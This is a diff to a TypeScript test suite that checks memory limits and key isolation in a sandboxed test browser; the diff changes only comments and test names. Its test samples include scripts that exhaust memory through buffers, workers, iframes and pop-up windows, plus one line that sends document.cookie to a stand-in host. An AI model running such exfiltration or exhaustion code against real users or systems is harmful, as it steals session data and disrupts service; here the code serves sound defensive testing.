@@ -5,17 +5,17 @@ import { memoryOf, processesOfGroup } from "./browser/process-memory.ts";
 import { openTestBrowser, runSample } from "./canary.test-support.ts";
 
 const LIMIT_MB = 768;
-/** How far beyond the limit a browser may get before it is ended. */
+/** By how much a browser may exceed the limit before it is terminated. */
 const MARGIN_MB = 512;
 const browser = openTestBrowser(LIMIT_MB);
 afterAll(() => browser.close());
 
-/** Fills buffers as quickly as it can, 8 GB in all, and keeps them. */
+/** Code that fills buffers of 8 GB in total as fast as possible and keeps them. */
 const FILL =
 	"const kept = []; for (let i = 0; i < 128; i++) { const b = new Uint8Array(64 << 20).fill(1); kept.push(b); }";
 const url = (code: string) => `URL.createObjectURL(new Blob([${JSON.stringify(code)}]))`;
 
-/** Runs a script, and measures on its own what its browser has at most, in MB. */
+/** Runs a script and independently measures the peak memory of its browser in MB. */
 async function runMeasured(body: string) {
 	let peak = 0;
 	const timer = setInterval(() => {
@@ -34,7 +34,7 @@ describe.skipIf(process.platform !== "linux")("memory of the test browser", () =
 	it.each([
 		["a page", FILL],
 		[
-			"a page that goes on when it gets no more",
+			"a page that continues after a failed allocation",
 			`for (;;) { try { ${FILL} } catch (thrown) { document.title = thrown } }`,
 		],
 		["several workers", `for (let i = 0; i < 4; i++) new Worker(${url(FILL)})`],
@@ -43,7 +43,7 @@ describe.skipIf(process.platform !== "linux")("memory of the test browser", () =
 			`for (let i = 0; i < 4; i++) document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>' + ${JSON.stringify(FILL)} + '</' + 'script>' }))`,
 		],
 		[
-			"windows without a tie to the page",
+			"windows without an opener",
 			`for (let i = 0; i < 4; i++) open(URL.createObjectURL(new Blob(['<script>' + ${JSON.stringify(FILL)} + '</' + 'script>'], { type: 'text/html' })), '_blank', 'noopener'); ${FILL}`,
 		],
 		[
@@ -64,13 +64,13 @@ describe.skipIf(process.platform !== "linux")("memory of the test browser", () =
 		expect(peakMb).toBeLessThan(LIMIT_MB + MARGIN_MB);
 	});
 
-	it("ends no run of an ordinary script, also after one that took too much", async () => {
+	it("does not end the run of an ordinary script, even after one that exceeded the limit", async () => {
 		const { report, peakMb } = await runMeasured("document.body.style.background = 'pink'");
 		expect(report).toMatchObject({ answer: "ran", evidence: [] });
 		expect(peakMb).toBeLessThan(LIMIT_MB);
 	});
 
-	it("keeps what was seen before", async () => {
+	it("keeps evidence from before the termination", async () => {
 		const report = await runSample(
 			browser,
 			`fetch('https://x.test/', { method: 'POST', mode: 'no-cors', body: document.cookie }).finally(() => { ${FILL} })`,
@@ -80,7 +80,7 @@ describe.skipIf(process.platform !== "linux")("memory of the test browser", () =
 });
 
 describe.skipIf(process.platform !== "linux")("the browser's processes", () => {
-	it("have a limit each, which holds between two looks at their sum, and do not know the service role's key", async () => {
+	it("each have a limit, which holds between two polls of their total, and do not know the service role's key", async () => {
 		vi.stubEnv("SUPABASE_SERVICE_ROLE_KEY", "the-key");
 		const started = openTestBrowser(LIMIT_MB);
 		try {
